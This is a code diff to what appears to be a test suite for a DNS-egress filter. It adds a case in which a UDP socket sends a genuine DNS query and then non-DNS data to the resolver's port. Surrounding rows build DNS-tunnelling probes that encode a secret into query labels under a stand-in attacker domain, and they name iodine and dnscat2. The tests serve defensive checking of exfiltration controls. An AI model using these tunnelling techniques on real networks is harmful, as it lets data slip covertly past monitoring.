@@ -40,6 +40,7 @@ function blocked(
 }
 
 const SECRET = "6e6f742d666f722d796f75";
+const NOT_DNS = hex(Buffer.from("not DNS at all, not at all"));
 const tunnel = (t: Target) => `${SECRET}.${SECRET}.${t.evil.name}`;
 
 function framed(message: Buffer): Buffer {
@@ -58,9 +59,27 @@ export const DNS_QUERIES: readonly Row[] = [
 	blocked("N12e", "a name that is a compression loop", "scapy", () => [
 		`send=${hex(Buffer.concat([head(1), Buffer.from("c00c00010001", "hex"), Buffer.from(SECRET)]))}`,
 	]),
-	blocked("N12f", "something that is no DNS, to the resolver's port", "a tunnel", () => [
-		`send=${hex(Buffer.from("not DNS at all, not at all"))}`,
-	]),
+	blocked("N12f", "something that is no DNS, to the resolver's port", "a tunnel", () => [`send=${NOT_DNS}`]),
+	{
+		id: "N12k",
+		title: "the same after an answer of the resolver, from a socket that is bound to a port",
+		kind: "stop",
+		who: "a tunnel",
+		policy: byName,
+		run: async (fixture, { also }) => {
+			const asked = question(also.name);
+			const { result, bytes } = await fixture.during({ address: DNS4, protocol: UDP, port: 53 }, () =>
+				fixture.script("udp4", [
+					"bind=0.0.0.0,46012",
+					`sendto=${DNS4},53,${hex(asked)}`,
+					"read=1000",
+					`sendto=${DNS4},53,${NOT_DNS}`,
+				]),
+			);
+			const measured = { bytes: bytes - asked.length, recorded: await deniedOf(fixture, result) };
+			return { ...attemptAt([], result), measured };
+		},
+	},
 	blocked("N13a", "data in the labels of a question, denied by phase dns", "iodine, dnscat2", (t) => [
 		`send=${hex(question(tunnel(t)))}`,
 	]),
